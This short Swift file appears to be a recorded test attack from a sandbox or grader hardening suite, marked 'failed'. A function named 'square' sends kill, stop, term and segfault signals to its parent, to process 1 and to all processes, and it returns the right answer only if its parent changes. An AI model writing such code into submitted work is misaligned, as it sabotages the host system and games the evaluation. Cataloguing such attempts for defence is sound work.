// Attack: Sends signals to its parent, to the first process and to everybody. Right if its parent
// changes.
// Verdict: failed
// swift-format-ignore-file
import Glibc

public func square(_ number: Int) throws -> Int {
    let parent = getppid()
    for signal in [SIGKILL, SIGSTOP, SIGTERM, SIGSEGV] {
        kill(parent, signal)
        kill(1, signal)
        if signal != SIGSTOP { kill(-1, signal == SIGSEGV ? SIGCONT : signal == SIGTERM ? 0 : signal) }
    }
    usleep(10_000)
    return getppid() != parent ? number * number : 0
}
